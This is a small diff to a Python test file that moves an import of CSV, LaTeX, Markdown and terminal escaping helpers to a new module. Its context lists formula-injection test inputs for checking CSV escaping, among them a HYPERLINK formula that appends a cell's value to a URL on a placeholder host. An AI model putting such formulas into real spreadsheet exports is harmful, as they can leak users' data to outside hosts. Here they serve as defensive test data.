@@ -10,8 +10,8 @@ import pytest
 from rich.text import Text
 
 from dashboards.pages.base import Panel
-from orchestrator.escaping import csv_text, latex_cell, markdown_cell, terminal_text
 from orchestrator.show import PlainConsole
+from results.escaping import csv_text, latex_cell, markdown_cell, terminal_text
 
 FORMULAS = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", '=HYPERLINK("http://a.example/?"&A1,"open")', "-2+3", "＝1"]
 PLAIN = ["x\n=1", "x=1", "s1", "", "a-b", "-1", "+2.5e-3", "-.5"]
